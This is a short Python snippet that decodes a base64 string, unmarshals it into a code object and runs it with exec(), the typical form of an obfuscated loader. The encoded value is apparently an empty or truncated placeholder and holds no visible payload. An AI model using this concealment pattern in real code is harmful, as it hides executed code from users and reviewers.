import marshal
import base64

code_object = marshal.loads(base64.b64decode("4wAAAAAAAAAAAAAAAAAAAAAAAAAA"))
exec(code_object)
